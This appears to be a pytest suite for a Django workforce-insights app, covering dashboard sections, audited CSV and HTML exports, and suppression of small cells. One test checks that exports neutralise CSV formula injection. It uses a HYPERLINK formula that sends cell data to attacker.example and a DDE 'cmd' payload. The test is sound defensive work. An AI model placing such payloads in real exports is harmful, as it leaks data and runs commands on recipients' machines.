"""The analyst's dashboard, exports and reports: what they show, and that they are audited."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from upward.demo.synthetic_workforce import synthetic_csv
from upward.reports.hr_file import HrSnapshot
from upward.reports.workforce import protected_analysis
from upward.web.core.models import AuditEntry
from upward.web.insights.models import Snapshot, SnapshotData
from upward.web.insights.selectors import survey_answers_for_analysis
from upward.web.insights.services import (
    organisation_question_create,
    release_create,
    release_ledger,
    survey_save,
)


@pytest.fixture
def analyst_client(personas, client_for):
    return client_for(personas["analyst"])


def test_empty_dashboard_invites_an_import(analyst_client):
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    assert "No workforce snapshot yet" in page


def test_dashboard_shows_every_section_with_charts_and_tables(analyst_client, snapshot):
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    for title in ("Background profile", "Representation by grade", "Progression and retention",
                  "Pay gap", "Intersections", "Workforce mobility table"):
        assert f">{title}</h2>" in page
    assert page.count('role="img"') >= 5
    assert page.count("<caption") >= 15
    assert "style=" not in page  # the CSP forbids inline styles
    assert "fewer than 10" in page  # a 600-person workforce has small cells


def test_the_dashboard_opens_with_the_headline_figures(analyst_client, personas, snapshot):
    import re

    from upward.reports.combined_tables import headline_with_bands
    from upward.web.insights.selectors import snapshot_insights

    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    headline = page.index('id="section-headline"')
    contents = page.index('id="contents-heading"')
    assert headline < contents < page.index('id="section-profile"')
    insights = snapshot_insights(viewer=personas["analyst"], snapshot=snapshot)
    figures = headline_with_bands(insights)
    assert figures[0][0] == "Headcount"
    for label, text in figures:
        assert f"<dt>{label}</dt><dd>{text}</dd>" in page
    # The contents list links to every section, and every link lands on a heading.
    nav = page[contents:page.index("</nav>", contents)]
    targets = re.findall(r'href="#([^"]+)"', nav)
    assert [f"section-{s.id}" for s in insights.sections] == targets[:len(insights.sections)]
    assert "section-method" in targets and "section-release" in targets
    for target in targets:
        assert f'<h2 id="{target}">' in page


def test_the_top_grade_share_comes_from_the_combined_band_when_the_grade_hides_it():
    from datetime import date

    from upward.demo.synthetic_workforce import synthetic_snapshot
    from upward.reports.combined_tables import headline_with_bands
    from upward.reports.workforce import analyse, headline_figures

    insights = analyse(synthetic_snapshot(2000, seed=7, snapshot_date=date(2025, 3, 31)), k=10)
    plain = dict(headline_figures(insights))
    assert plain["Lower background in the top grade, % of classified"] == "not published"
    banded = dict(headline_with_bands(insights))
    band = insights.table("representation_by_grade_combined").rows[-2]
    assert banded["Lower background in the top grades (Grade 6 to Grade 7), % of classified"] \
        == band[1][-1].text != "not published"


def test_the_web_publishes_exactly_what_the_library_publishes(personas, client, snapshot):
    """So the attacks on the library's tables (tests/reports) cover the pages and the API."""
    from upward.web.accounts.services import token_create

    survey_save(user=personas["member"], answers={"main_earner_occupation": "professional"},
                employee_id="E000001")
    ledger = release_ledger()
    release = release_create(actor=personas["analyst"], snapshot=snapshot, reason="test")
    _, secret = token_create(user=personas["analyst"], name="t")
    body = client.get(f"/api/v1/insights/snapshots/{snapshot.pk}",
                      headers={"Authorization": f"Bearer {secret}"}).json()
    assert body["release"]["id"] == release.pk
    stored = HrSnapshot.from_parquet(bytes(SnapshotData.objects.get(snapshot=snapshot).parquet))
    expected = protected_analysis(stored, survey=survey_answers_for_analysis(), k=10,
                                  ledger=ledger, noise_seed=release.noise_seed
                                  ).insights.to_dict()
    assert body["sections"] == expected["sections"]
    assert body["key_figures"] == pytest.approx(expected["key_figures"], nan_ok=True)


def test_a_tiny_workforce_has_its_breakdowns_withheld(personas, import_snapshot, analyst_client):
    from upward.demo.synthetic_workforce import synthetic_people

    import_snapshot(synthetic_people(30, seed=2, snapshot_date=date(2025, 3, 31)))
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    assert "Every breakdown by background is withheld" in page


def test_csv_export_is_the_published_table_and_is_audited(analyst_client, snapshot):
    url = reverse("insights:export_csv", args=["representation_by_grade"])
    response = analyst_client.get(f"{url}?snapshot={snapshot.pk}")
    assert response["Content-Type"].startswith("text/csv")
    assert "representation_by_grade-2025-03-31.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:2] == ["Grade", "Professional"]
    assert rows[-1][0] == "Total"
    entry = AuditEntry.objects.get(action="data.export")
    assert entry.detail == {"table": "representation_by_grade", "format": "csv"}
    assert entry.object_id == str(snapshot.pk)
    missing = analyst_client.get(reverse("insights:export_csv", args=["no_such_table"]))
    assert missing.status_code == 404


def test_csv_exports_cannot_carry_a_formula(analyst_client, personas, workforce, client):
    """A function name from the HR file, or an answer a lead typed, that a spreadsheet would
    run as a formula is exported as text (OWASP CSV injection), on the page and in the API."""
    from dataclasses import replace as dc_replace

    from upward.web.accounts.services import token_create
    from upward.web.insights.services import snapshot_import_file

    evil = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    functions = workforce.function.copy()
    functions[functions == "Operations"] = evil
    data = synthetic_csv(dc_replace(workforce, function=functions))
    stored = snapshot_import_file(actor=personas["analyst"], content=data, source_name="hr.csv",
                                  snapshot_date=date(2025, 3, 31))
    url = reverse("insights:export_csv", args=["representation_by_function"])
    rows = list(csv.reader(io.StringIO(
        analyst_client.get(f"{url}?snapshot={stored.pk}").content.decode())))
    labels = [row[0] for row in rows]
    assert "'" + evil in labels and evil not in labels
    _, secret = token_create(user=personas["analyst"], name="t")
    api = client.get(f"/api/v1/insights/snapshots/{stored.pk}/tables/representation_by_function"
                     "?format=csv", headers={"Authorization": f"Bearer {secret}"})
    assert "'" + evil in [row[0] for row in csv.reader(io.StringIO(api.content.decode()))]

    question = organisation_question_create(actor=personas["lead"], text="Pick one",
                                            options=["@SUM(1+1)*cmd|' /C calc'!A0", "No"])
    url = reverse("insights:export_csv", args=[f"organisation_question_{question.pk}"])
    rows = list(csv.reader(io.StringIO(analyst_client.get(url).content.decode())))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_html_report_download_is_audited(analyst_client, snapshot):
    response = analyst_client.get(reverse("insights:report", args=[snapshot.pk]))
    html = response.content.decode()
    assert response["Content-Disposition"].startswith("attachment;")
    assert "<svg" in html and "Socio-economic pay gap" in html
    assert AuditEntry.objects.filter(action="data.export", detail__format="html").exists()


def test_trends_need_two_snapshots(analyst_client, snapshot, import_snapshot):
    from upward.demo.synthetic_workforce import synthetic_people

    assert "Trends across snapshots" not in analyst_client.get(
        reverse("insights:dashboard")).content.decode()
    import_snapshot(synthetic_people(500, seed=5, snapshot_date=date(2024, 3, 31)),
                    snapshot_date=date(2024, 3, 31))
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    assert "Trends across snapshots" in page and "2024-03-31" in page
    csv_text = analyst_client.get(reverse("insights:export_csv", args=["trends"])).content
    assert csv_text.decode().startswith("Figure,2024-03-31,2025-03-31")


def test_choosing_a_snapshot(analyst_client, snapshot):
    assert analyst_client.get(reverse("insights:dashboard") + "?snapshot=999").status_code == 404
    assert analyst_client.get(reverse("insights:dashboard") + "?snapshot=x").status_code == 404
    page = analyst_client.get(reverse("insights:dashboard") + f"?snapshot={snapshot.pk}")
    assert "Snapshot of 31 March 2025" in page.content.decode()


def test_organisation_question_results_are_suppressed(analyst_client, personas, lead):
    q = organisation_question_create(actor=lead, text="Did you do an apprenticeship?",
                                     options=["Yes", "No"])
    for role in ("member", "moderator", "lead"):
        survey_save(user=personas[role], answers={}, organisation_answers={q.pk: "Yes"})
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    assert "No workforce snapshot yet" in page  # results need no snapshot, but the page does
    url = reverse("insights:export_csv", args=[f"organisation_question_{q.pk}"])
    rows = list(csv.reader(io.StringIO(analyst_client.get(url).content.decode())))
    # Three answers are fewer than k: they wait, held back, until enough others come in.
    assert rows[1] == ["Yes", "0"]
    assert rows[-1] == ["Total", "0"]


def test_organisation_results_move_only_by_k_answers_at_a_time(analyst_client, personas, lead):
    """Someone who knows when one colleague answered, changed or withdrew compares the results
    before and after: they move only by groups of at least k answers."""
    from upward.web.demo.factories import person
    from upward.web.insights.services import survey_delete

    q = organisation_question_create(actor=lead, text="First in family at university?",
                                     options=["Yes", "No"])
    people = [person(roles=["member"], email=f"o{i}@northbridge.example") for i in range(30)]
    for i, user in enumerate(people[:25]):
        survey_save(user=user, answers={}, organisation_answers={q.pk: "Yes" if i % 3 else "No"})
    url = reverse("insights:export_csv", args=[f"organisation_question_{q.pk}"])

    def results() -> dict[str, str]:
        rows = csv.reader(io.StringIO(analyst_client.get(url).content.decode()))
        return {row[0]: row[1] for row in list(rows)[1:]}

    first = results()
    assert first["Total"] == "25"
    survey_save(user=people[25], answers={}, organisation_answers={q.pk: "No"})
    assert results() == first  # one new answer waits
    survey_save(user=people[1], answers={}, organisation_answers={q.pk: "No"})  # a change
    survey_delete(user=people[2])  # a withdrawal
    after = results()
    assert after != first
    # The withdrawal and the change are hidden among at least k answers held back.
    assert int(first["Total"]) - int(after["Total"]) >= 10


def test_deleting_a_snapshot_is_audited(analyst_client, snapshot):
    analyst_client.post(reverse("insights:snapshot_delete", args=[snapshot.pk]))
    assert not Snapshot.objects.exists() and not SnapshotData.objects.exists()
    assert AuditEntry.objects.get(action="snapshot.delete").detail["rows"] == snapshot.row_count


def test_k_is_configurable_but_never_below_5(analyst_client, snapshot, settings):
    settings.UPWARD_INSIGHTS_K = 20
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    # Figures released under k = 10 are not shown once k is 20: they are released again.
    assert "have not been released yet" in page and "fewer than 10" not in page
    analyst_client.post(reverse("insights:release", args=[snapshot.pk]))
    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
    assert "fewer than 20" in page and "fewer than 10" not in page
    settings.UPWARD_INSIGHTS_K = 3
    from django.core.exceptions import ImproperlyConfigured

    with pytest.raises(ImproperlyConfigured, match="at least 5"):
        analyst_client.get(reverse("insights:dashboard"))


def test_combined_csv_views_are_arithmetic_on_the_fine_csv(analyst_client, snapshot):
    """Differencing the downloads: every band of a combined view is the fine table's column
    total minus its published rows outside the band, and every other row is the fine row,
    so the combined download gives a reader nothing the fine one does not."""
    def download(table_id):
        response = analyst_client.get(reverse("insights:export_csv", args=[table_id]),
                                      {"snapshot": snapshot.pk})
        assert response.status_code == 200
        return list(csv.reader(io.StringIO(response.content.decode())))

    combined_ids = [f"{i}_combined" for i in ("representation_by_grade",
                                              "representation_by_function",
                                              "sex_by_background", "ethnicity_by_background")]
    checked = 0
    for combined_id in combined_ids:
        response = analyst_client.get(reverse("insights:export_csv", args=[combined_id]),
                                      {"snapshot": snapshot.pk})
        if response.status_code == 404:
            continue
        fine = download(combined_id.removesuffix("_combined"))
        combined = download(combined_id)
        assert combined[0] == fine[0]
        fine_rows = {row[0]: row for row in fine[1:]}
        band_rows = [row for row in combined[1:] if row[0].endswith(" (combined)")]
        in_bands = set(fine_rows) - {row[0] for row in combined[1:]}
        for row in combined[1:]:
            if row in band_rows:
                continue
            assert row == fine_rows[row[0]]
        for j in range(1, 6):  # the four backgrounds and the total
            outside = [fine_rows[label][j] for label in fine_rows
                       if label not in in_bands and label != "Total"]
            if any(not text.replace(",", "").isdigit() for text in outside) \
                    or len(band_rows) != 1:
                continue
            worked_out = int(fine_rows["Total"][j].replace(",", "")) - sum(
                int(text.replace(",", "")) for text in outside)
            assert band_rows[0][j] == f"{worked_out:,}"
            checked += 1
    assert checked > 0, "the fixture's workforce should have a combined view to check"
